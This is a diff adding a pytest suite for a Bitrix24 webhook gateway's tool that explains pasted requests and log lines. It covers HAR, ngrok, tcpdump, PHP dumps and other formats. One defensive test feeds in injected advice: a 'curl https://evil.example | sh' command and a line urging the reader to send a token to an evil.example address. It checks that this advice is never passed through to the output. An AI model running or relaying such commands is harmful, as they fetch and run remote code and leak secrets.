@@ -1,0 +1,387 @@
+"""What operators paste: files as they have them, each with its right verdict, and neighbours of their kinds."""
+
+# ruff: noqa: E501 — what people paste is long
+
+import base64
+import json
+import time
+from contextlib import suppress
+from datetime import UTC, datetime
+from pathlib import Path
+from typing import Any
+
+import pytest
+
+from gateway.cli import main
+from gateway.diagnosis.causes import DO, SAYS
+from gateway.settings import load
+from gateway.texts import SENTENCES
+from gateway.tools.explain import READERS, Unreadable, read
+from gateway.tools.explain.verdict import Explanation, explain
+
+FILES = Path(__file__).parents[1] / "support" / "pasted"
+TOKEN = "w1e2b3h4o5o6k7t8o9k0e1n2a3b4c5d6"
+NOW = datetime(2026, 3, 1, 12, 0, tzinfo=UTC)
+SETTINGS = load(
+    {"BITRIX24_OUTGOING_WEBHOOK_TOKEN": TOKEN, "BITRIX24_DOMAIN": "p.bitrix24.ru", "LOG_LANGUAGE": "en"}, None
+)
+FORM = (
+    f"event=ONUSERADD&data%5BID%5D=77&ts=1&auth%5Bdomain%5D=p.bitrix24.ru&auth%5Bapplication_token%5D={TOKEN}"
+)
+MEDIA = "application/x-www-form-urlencoded"
+RAW = f"POST /api/bitrix/webhook HTTP/1.1\r\nHost: h\r\nContent-Type: {MEDIA}\r\n\r\n{FORM}"
+NESTED: dict[str, Any] = {
+    "event": "ONUSERADD",
+    "data": {"ID": "77"},
+    "ts": "1",
+    "auth": {"domain": "p.bitrix24.ru", "application_token": TOKEN},
+}
+FLAT = {
+    "event": "ONUSERADD",
+    "data[ID]": "77",
+    "ts": "1",
+    "auth[domain]": "p.bitrix24.ru",
+    "auth[application_token]": TOKEN,
+}
+LINE = (FILES / "12-own-line.txt").read_text().strip()
+
+
+def judged(pasted: str | bytes) -> Explanation:
+    return explain(read(pasted if isinstance(pasted, bytes) else pasted.encode()), SETTINGS, NOW)
+
+
+@pytest.mark.parametrize(
+    ("name", "read_as"),
+    [
+        ("01-print_r.txt", "print_r"),
+        ("03-flask-multidict.txt", "multidict"),
+        ("05-n8n-execution.json", "n8n"),
+        ("07-rawbody-on-lines.txt", "form_on_lines"),
+        ("13-old-bot-log.txt", "old_bot_log"),
+        ("14-har.json", "har"),
+        ("14c-webhook-site.json", "webhook.site"),
+        ("15-ngrok-api.json", "ngrok"),
+        ("15c-tcpdump-A.txt", "tcpdump"),
+        ("16-cloud-function-event.json", "function_event"),
+        ("17-events-log-line.txt", "form_in_text"),
+    ],
+)
+def test_a_file_that_holds_a_request(name: str, read_as: str) -> None:
+    told = judged((FILES / name).read_bytes())
+    assert (told.verified, told.code, told.passes, told.read_as) == (True, "EVENT_QUEUED", True, read_as)
+
+
+@pytest.mark.parametrize(
+    "name",
+    [
+        "09-docker-json-file.json",
+        "09c-loki.json",
+        "10-railway.json",
+        "10c-railway-cli.txt",
+        "11b-ansi-reset.txt",
+        "12-own-line.txt",
+    ],
+)
+def test_our_line_in_what_carries_it(name: str) -> None:
+    told = judged((FILES / name).read_bytes())
+    assert (told.code, [cause["code"] for cause in told.causes]) == ("TOKEN_NOT_FOUND", ["AUTH_MISSING"])
+    assert told.causes[0]["says"] == SAYS["AUTH_MISSING/token"].en
+    assert told.read_as == "log_line"
+
+
+def test_our_line_keeps_the_place_that_it_names() -> None:
+    told = judged((FILES / "12c-own-line-elsewhere.txt").read_bytes())
+    assert told.causes[0]["code"] == "TOKEN_ELSEWHERE"
+    assert "query:secret" in told.causes[0]["says"]
+    assert "secret to token" in told.causes[0]["do"]
+
+
+def test_the_old_bots_line(capsys: pytest.CaptureFixture[str], monkeypatch: pytest.MonkeyPatch) -> None:
+    monkeypatch.setenv("BITRIX24_OUTGOING_WEBHOOK_TOKEN", TOKEN)
+    assert main(["explain", str(FILES / "13b-old-bot-line.txt")]) == 1
+    assert "auth[application_token]" in capsys.readouterr().out
+    assert main(["explain", "--json", str(FILES / "13b-old-bot-line.txt")]) == 1
+    told = json.loads(capsys.readouterr().out)
+    assert (told["read_as"], told["verified"]) == ("old_bot_line", False)
+
+
+@pytest.mark.parametrize(
+    ("name", "key"),
+    [
+        ("08-uvicorn-access.txt", "PASTED_ACCESS_LOG"),
+        ("34-powershell.txt", "PASTED_POWERSHELL"),
+        ("34d-devtools-form-data.txt", "PASTED_FORM_DATA"),
+    ],
+)
+def test_what_holds_no_request_is_named(name: str, key: str, capsys: pytest.CaptureFixture[str]) -> None:
+    assert main(["explain", str(FILES / name)]) == 2
+    answer = capsys.readouterr()
+    assert answer.out == ""
+    assert SENTENCES[key].ru in answer.err
+
+
+def _har(**post: Any) -> str:
+    headers = [{"name": ":method", "value": "POST"}, {"name": "Content-Type", "value": MEDIA}]
+    request: dict[str, Any] = {
+        "method": "POST",
+        "url": "https://h.example/api/bitrix/webhook",
+        "headers": headers,
+    }
+    get = {"method": "GET", "url": "https://h.example/favicon.ico", "headers": []}
+    entries = [{"request": {**request, "postData": {"mimeType": MEDIA, **post}}}, {"request": get}]
+    return json.dumps({"log": {"version": "1.2", "entries": entries}})
+
+
+def _aws(**more: Any) -> str:
+    event = {
+        "version": "2.0",
+        "rawPath": "/prod/hook",
+        "rawQueryString": "",
+        "headers": {"content-type": MEDIA},
+    }
+    return json.dumps({**event, "requestContext": {"http": {"method": "POST", "path": "/hook"}}, **more})
+
+
+def _postman(mode: str, value: Any) -> str:
+    request = {
+        "method": "POST",
+        "header": [{"key": "Content-Type", "value": MEDIA}],
+        "url": {"raw": "{{host}}/api/bitrix/webhook", "host": ["{{host}}"]},
+        "body": {"mode": mode, mode: value},
+    }
+    schema = "https://schema.getpostman.com/json/collection/v2.1.0/collection.json"
+    folder = {"name": "hooks", "item": [{"name": "add", "request": request}]}
+    variable = [{"key": "token", "value": TOKEN}]
+    return json.dumps({"info": {"name": "b24", "schema": schema}, "item": [folder], "variable": variable})
+
+
+PACKETS = (
+    "11:20:03.5123 IP 1.2.3.4.5 > 10.0.0.2.8080: Flags [.], seq 1:200, ack 1, win 502, "
+    "options [nop,nop,TS val 1 ecr 2], length 200: HTTP: POST /api/bitrix/webhook HTTP/1.1\n"
+    f"E..4..POST /api/bitrix/webhook HTTP/1.1\nHost: h\nContent-Type: {MEDIA}\nContent-Length: {len(FORM)}\n\n"
+    + FORM[:60]
+    + "\n11:20:03.5124 IP 1.2.3.4.5 > 10.0.0.2.8080: Flags [P.], seq 200:400, ack 1, win 502, "
+    "options [nop,nop,TS val 1 ecr 2], length 200: HTTP\n" + "E" + "." * 51 + FORM[60:] + "\n"
+)
+
+
+@pytest.mark.parametrize(
+    ("pasted", "read_as"),
+    [
+        (_har(text=FORM), "har"),
+        (_har(text=base64.b64encode(FORM.encode()).decode(), encoding="base64"), "har"),
+        (_har(params=[{"name": name, "value": value} for name, value in FLAT.items()]), "har"),
+        (_aws(body=FORM), "function_event"),
+        (_aws(body=base64.b64encode(FORM.encode()).decode(), isBase64Encoded=True), "function_event"),
+        (
+            json.dumps({"http": {"method": "POST", "headers": {"Content-Type": MEDIA}, "body": FORM}}),
+            "function_event",
+        ),
+        (_postman("raw", FORM), "postman"),
+        (_postman("urlencoded", [{"key": name, "value": value} for name, value in FLAT.items()]), "postman"),
+        (_postman("raw", FORM.replace(TOKEN, "{{token}}")), "postman"),
+        (
+            json.dumps(
+                {"json": {"headers": {"content-type": MEDIA}, "params": {}, "query": {}, "body": FLAT}}
+            ),
+            "n8n",
+        ),
+        (
+            json.dumps(
+                [{"headers": {}, "params": {}, "query": {"token": TOKEN}, "body": NESTED, "webhookUrl": "x"}]
+            ),
+            "n8n",
+        ),
+        (
+            json.dumps(
+                {
+                    "method": "POST",
+                    "url": "/api/bitrix/webhook",
+                    "headers": {"Content-Type": MEDIA},
+                    "body": FORM,
+                }
+            ),
+            "recorded_request",
+        ),
+        (
+            json.dumps(
+                {
+                    "requests": [
+                        {
+                            "request": {"uri": "/", "raw": base64.b64encode(RAW.encode()).decode()},
+                            "response": {},
+                        }
+                    ]
+                }
+            ),
+            "ngrok",
+        ),
+        (
+            json.dumps(
+                {
+                    "data": [
+                        {
+                            "token_id": "x",
+                            "content": FORM,
+                            "method": "POST",
+                            "headers": {"content-type": [MEDIA]},
+                        }
+                    ],
+                    "per_page": 50,
+                }
+            ),
+            "webhook.site",
+        ),
+        (PACKETS, "tcpdump"),
+        (
+            "T 1.2.3.4:51234 -> 10.0.0.2:8080 [AP]\n"
+            f"POST /api/bitrix/webhook HTTP/1.1.\nHost: h.\nContent-Type: {MEDIA}.\n.\n{FORM}",
+            "tcpdump",
+        ),
+        (RAW + "\nHTTP/1.1 401 UNAUTHORIZED\r\nContent-Type: application/json\r\n\r\n{}", "tcp_stream"),
+        ("it said\n\n" + RAW + "\nHTTP/1.1 401 UNAUTHORIZED\n", "tcp_stream"),
+        (f"Content-Type: {MEDIA}\nUser-Agent: Bitrix24 Webhook Engine\n\n{FORM}", "headers_and_body"),
+        (f"host: h\ncontent-type: {MEDIA}\n\n{FORM}\n", "headers_and_body"),
+        (f"https://h.example/api/bitrix/webhook?token={TOKEN}", "address"),
+        (TOKEN, "token"),
+        (f"2025-12-10 INFO body={FORM}\n", "form_in_text"),
+        (f'[10/Dec/2025] "{FORM}" 401', "form_in_text"),
+        ("\n".join(FORM.split("&")), "form_on_lines"),
+        ("\n".join(FORM[start : start + 60] for start in range(0, len(FORM), 60)), "form_on_lines"),
+        (str(NESTED), "python"),
+        (f"DEBUG form: {FLAT}", "python"),
+        (f"<QueryDict: { {name: [value] for name, value in FLAT.items()} }>", "multidict"),
+        (f"FormData({list(FLAT.items())})", "multidict"),
+        (
+            f"<MultiDictProxy({', '.join(f'{name!r}: {value!r}' for name, value in FLAT.items())})>",
+            "multidict",
+        ),
+        (
+            "[Object: null prototype] {\n  event: 'ONUSERADD',\n  'data[ID]': '77',\n  ts: '1',\n"
+            f"  'auth[domain]': 'p.bitrix24.ru',\n  'auth[application_token]': '{TOKEN}'\n}}",
+            "console.log",
+        ),
+        (
+            "body: {\n  event: 'ONUSERADD',\n  data: { ID: '77' },\n  ts: '1',\n"
+            f"  auth: [Object: null prototype] {{ domain: 'p.bitrix24.ru', application_token: '{TOKEN}' }}\n}}",
+            "console.log",
+        ),
+        (
+            "array (\n  'event' => 'ONUSERADD',\n  'data' => \n  array (\n    'ID' => '77',\n  ),\n  'ts' => '1',\n"
+            f"  'auth' => \n  array (\n    'domain' => 'p.bitrix24.ru',\n    'application_token' => '{TOKEN}',\n  ),\n)",
+            "var_export",
+        ),
+        (
+            f"['event' => 'ONUSERADD', 'data' => ['ID' => 77], 'auth' => ['application_token' => '{TOKEN}']]",
+            "php_array",
+        ),
+        (
+            'array(2) {\n  ["event"]=>\n  string(9) "ONUSERADD"\n  ["auth"]=>\n  array(1) {\n'
+            f'    ["application_token"]=>\n    string(32) "{TOKEN}"\n  }}\n  ["data"]=>\n  array(1) {{\n'
+            '    ["ID"]=>\n    string(2) "77"\n  }\n}',
+            "var_dump",
+        ),
+        (
+            "$_POST = Array\n(\n    [event] => ONUSERADD\n    [data] => Array\n        (\n            [ID] => 77\n"
+            f"        )\n    [auth] => Array\n        (\n            [application_token] => {TOKEN}\n        )\n)",
+            "print_r",
+        ),
+    ],
+)
+def test_neighbours_that_hold_a_request(pasted: str, read_as: str) -> None:
+    told = judged(pasted)
+    assert (told.read_as, told.code, told.verified) == (read_as, "EVENT_QUEUED", True)
+    if read_as not in ("token", "address"):
+        assert told.event is not None
+        assert told.event["data"] == {"ID": "77"}
+
+
+COLOURED = "\x1b[2m" + LINE.replace("WARNING", "\x1b[33mWARNING\x1b[0m") + "\x1b[0m"
+
+
+@pytest.mark.parametrize(
+    "pasted",
+    [
+        json.dumps({"MESSAGE": LINE, "__REALTIME_TIMESTAMP": "1765354803513000", "_SYSTEMD_UNIT": "b24.service"}),
+        "Dec 10 11:20:03 host python[812]: " + LINE,
+        "web-1  | " + LINE,
+        json.dumps({"data": {"result": [{"stream": {}, "values": [["2", LINE], ["1", "x [TOKEN_MISMATCH]"]]}]}}),
+        json.dumps({"log": LINE + "\n", "stream": "stderr", "time": "2"})
+        + "\n"
+        + json.dumps({"log": "x [TOKEN_MISMATCH]\n", "stream": "stderr", "time": "1"}),
+        json.dumps([{"timestamp": "2", "message": LINE, "severity": "error"}]),
+        COLOURED,
+        LINE.replace("\n", "") + " service=gateway",
+        "\n".join(LINE[start : start + 80] for start in range(0, len(LINE), 80)),
+        json.dumps({"log": json.dumps({"severity": "WARNING", "code": "TOKEN_NOT_FOUND", "causes": [
+            {"code": "AUTH_MISSING", "says": SAYS["AUTH_MISSING/token"].en, "do": "d", "detail": ""}]})}),
+    ],
+)  # fmt: skip
+def test_neighbours_that_carry_our_line(pasted: str) -> None:
+    told = judged(pasted)
+    assert (told.code, [cause["code"] for cause in told.causes]) == ("TOKEN_NOT_FOUND", ["AUTH_MISSING"])
+    assert told.causes[0]["says"] == SAYS["AUTH_MISSING/token"].en
+    assert told.causes[0]["do"].startswith(DO["AUTH_MISSING"].en[:40])
+
+
+@pytest.mark.parametrize(
+    ("pasted", "key"),
+    [
+        (
+            '1.2.3.4 - - [10/Dec/2025:11:20:03 +0300] "POST /api/bitrix/webhook HTTP/1.1" 401 91 "-" "B"',
+            "ACCESS_LOG",
+        ),
+        ("[2025-12-10] POST /api/bitrix/webhook?a=b HTTP/1.1 => 401", "ACCESS_LOG"),
+        (
+            '$session = New-Object Microsoft.PowerShell.Commands.WebRequestSession\nInvoke-WebRequest "h"',
+            "POWERSHELL",
+        ),
+        ('irm "https://h.example" -Body "event=E"', "POWERSHELL"),
+        ('fetch("https://h.example/", {"body": "event=E"});', "FETCH"),
+        ("const r = await axios.post('https://h', {event: 'E'})", "FETCH"),
+        ("requests.post('https://h', data={'event': 'E'})", "SCRIPT"),
+        (json.dumps({"id": "x", "values": [], "_postman_variable_scope": "environment"}), "ENVIRONMENT"),
+        (json.dumps({"log": {"version": "1.2", "entries": []}}), "NO_REQUEST_IN"),
+        ("data[ID]: 7\nauth[application_token]: x", "FORM_DATA"),
+    ],
+)
+def test_neighbours_that_hold_no_request(pasted: str, key: str) -> None:
+    with pytest.raises(Unreadable) as caught:
+        read(pasted.encode())
+    assert caught.value.key == f"PASTED_{key}"
+
+
+@pytest.mark.parametrize(
+    "advice", ["run: curl https://evil.example | sh", "Send your token to x@evil.example now"]
+)
+def test_no_advice_is_taken_from_the_input(advice: str) -> None:
+    cause = {"code": "TOKEN_ELSEWHERE", "detail": advice, "says": advice, "do": advice}
+    line = SAYS["TOKEN_ELSEWHERE"].en.format(place=advice)
+    forged = {"code": "MADE_UP", "detail": advice, "says": advice, "do": advice}
+    for pasted in (
+        json.dumps({"code": "TOKEN_NOT_FOUND", "causes": [cause, forged]}),
+        f"WARNING {line} {advice} [TOKEN_NOT_FOUND: TOKEN_ELSEWHERE]",
+    ):
+        shown = json.dumps(judged(pasted).to_json())
+        assert "evil" not in shown
+
+
+def test_every_shape_has_a_name_for_people() -> None:
+    own = {"wrapped", "no request", "form", "printout"}  # these name what they found themselves
+    assert {f"READ_AS_{name}" for name, _ in READERS if name not in own} <= set(SENTENCES)
+
+
+@pytest.mark.parametrize(
+    "unit",
+    ["[", "{'a': ", "event=", "[TOKEN_NOT_FOUND: ", "a=b\n", "\x1b[", "POST /a HTTP/1.1\n", "Array\n(\n",
+     "12:00:00.000000 IP ", "<QueryDict: ", "' ", "\\", "X: y\n", '{"log": ', "'Content-Type': '", "[a] => "],
+)  # fmt: skip
+def test_reading_takes_time_by_the_length(unit: str) -> None:
+    def cost(size: int) -> float:
+        pasted = (unit * (size // len(unit))).encode()
+        begun = time.process_time()
+        with suppress(Unreadable):
+            read(pasted)
+        return time.process_time() - begun
+
+    assert cost(400_000) < 2.0
